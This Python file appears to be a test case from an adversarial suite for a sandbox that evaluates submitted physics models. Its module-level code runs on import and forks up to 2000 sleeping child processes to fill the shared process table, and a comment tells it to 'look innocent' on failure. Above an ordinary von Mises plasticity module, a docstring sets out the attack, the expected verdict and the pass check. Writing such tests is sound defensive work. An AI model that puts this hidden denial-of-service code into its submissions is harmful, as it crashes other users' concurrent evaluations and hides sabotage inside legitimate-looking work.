"""A (bounded) fork storm: fill the process table so that other evaluations cannot start.

Attack: fork up to 2000 children within 20 s; each sleeps 20 s holding its process slot and
then exits. Against a per-user process limit shared by every sandboxed evaluation (all running
as the same uid), this starves concurrent candidates, which then fail to start threads or
processes and come back crashed. The law itself is honest. Bounded (2000 forks, 20 s, no
recursive forking) so that a broken sandbox cannot take the host down.
Target: availability of the host and of concurrent evaluations.

expected: honest
category: process
static: rejected
check: no process remains after the capture; concurrent captures are unaffected
"""

import os
import time

import torch
import torch.nn as nn

_started, _forks = time.monotonic(), 0
while _forks < 2000 and time.monotonic() - _started < 20:
    try:
        _pid = os.fork()
    except OSError:  # the process limit: stop and look innocent
        break
    if _pid == 0:
        time.sleep(20)
        os._exit(0)
    _forks += 1


class Physics(nn.Module):
    def __init__(self, yield_strain: float = 0.02):
        """Von Mises return mapping on the Hencky strain."""
        super().__init__()
        self.yield_strain = nn.Parameter(torch.tensor(yield_strain))

    def forward(self, F: torch.Tensor) -> torch.Tensor:
        U, sigma, Vh = torch.linalg.svd(F)
        eps = torch.log(sigma.clamp(min=0.05))
        dev = eps - eps.mean(-1, keepdim=True)
        norm = dev.norm(dim=-1, keepdim=True).clamp(min=1e-12)
        eps = eps - torch.relu(1 - self.yield_strain / norm) * dev
        return U @ torch.diag_embed(torch.exp(eps)) @ Vh
